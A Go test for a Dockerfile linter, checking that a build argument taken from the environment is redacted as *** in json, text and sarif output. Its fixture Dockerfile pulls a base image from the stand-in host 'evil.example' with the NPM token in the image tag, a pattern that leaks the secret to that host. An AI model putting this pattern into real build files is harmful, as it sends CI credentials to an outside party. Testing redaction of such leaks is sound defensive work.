package main

import (
	"path/filepath"
	"strings"
	"testing"
)

// TestBuildArgFromEnvironmentIsRedacted: a --build-arg NAME takes its value
// from the environment, where CI keeps secrets; that value never appears in
// the output (the base image reference it expands into is printed as ***),
// in every format. A value given on the command line as NAME=VALUE is shown.
func TestBuildArgFromEnvironmentIsRedacted(t *testing.T) {
	const secret = "npm_s3cr3tT0ken"
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"Dockerfile": "ARG NPM_TOKEN\nFROM evil.example/x:${NPM_TOKEN}\n"})
	df := filepath.Join(dir, "Dockerfile")
	t.Setenv("NPM_TOKEN", secret)
	tests := []struct {
		name       string
		buildArg   string
		format     string
		wantSecret bool
	}{
		{"from the environment, json", "NPM_TOKEN", "json", false},
		{"from the environment, text", "NPM_TOKEN", "text", false},
		{"from the environment, sarif", "NPM_TOKEN", "sarif", false},
		{"on the command line", "NPM_TOKEN=" + secret, "json", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, stdout, stderr := runCLI(t, "", "lint", "-f", tt.format, "--fail-on", "none", "--offline", "--build-arg", tt.buildArg, df)
			out := stdout + stderr
			if !strings.Contains(out, "evil.example/x:") {
				t.Fatalf("no finding names the base image:\n%s", out)
			}
			if got := strings.Contains(out, secret); got != tt.wantSecret {
				t.Errorf("output shows the value: %v, want %v\n%s", got, tt.wantSecret, out)
			}
			if !tt.wantSecret && !strings.Contains(out, "evil.example/x:***") {
				t.Errorf("the reference is not shown redacted:\n%s", out)
			}
		})
	}
}
